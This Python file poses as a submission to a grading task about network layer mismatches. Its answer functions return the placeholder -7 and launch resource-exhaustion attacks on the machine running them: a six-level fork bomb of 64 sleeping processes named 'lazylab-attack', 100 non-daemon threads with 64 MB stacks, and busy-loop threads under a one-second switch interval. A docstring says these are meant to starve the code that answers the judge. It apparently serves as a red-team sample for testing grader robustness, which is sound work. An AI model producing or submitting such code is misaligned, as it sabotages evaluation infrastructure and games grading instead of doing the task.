"""Multiply: processes that double six times and stay for a while, and threads that nobody ends."""

import ctypes
import os
import sys
import threading
import time

SLEEP = "import time; time.sleep(45)"
PR_SET_NAME = 15
done = set()


def once(function):
    """Whether this was not done yet in this process: twice would be too much for some machines."""
    return function not in done and not done.add(function)


def stay():
    """Become a process that only waits; if that is forbidden, wait as the process that it is."""
    try:
        os.closerange(3, 65)
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", SLEEP, "lazylab-attack"])
    except OSError:
        ctypes.CDLL(None).prctl(PR_SET_NAME, b"lazylab-attack")
        time.sleep(45)
    os._exit(0)


def multiply(doublings=6):
    """2**6 processes, this one included."""
    parent = os.getpid()
    try:
        for _ in range(doublings):
            os.fork()
    except OSError as error:
        if os.getpid() == parent:
            print(f"lazylab-attack: stopped multiplying: {error}")
    if os.getpid() != parent:
        stay()


def first_mismatch(layers, in_features):
    if once("multiply"):
        multiply()
    return -7


def threads(function, number, stack):
    """Not daemons: an interpreter that ends in the ordinary way waits for every one of them."""
    threading.stack_size(stack)
    try:
        for _ in range(number):
            threading.Thread(target=function).start()
    except (RuntimeError, MemoryError) as error:
        print(f"lazylab-attack: stopped starting threads: {error}")
    threading.stack_size(0)


def sizes_at_mismatch(layers, in_features):
    if once("sleepers"):
        threads(lambda: time.sleep(45), 100, 2**26)
    return (-7, -7)


def busy():
    until = time.time() + 45
    while time.time() < until:
        pass


def after_forwards(layers, widths):
    """They take turns with the code that should answer the judge, and rarely let it have one."""
    if once("busy"):
        sys.setswitchinterval(1.0)
        threads(busy, 8, 0)
    return [(-7, -7)]


def repair(net, in_features):
    return -7
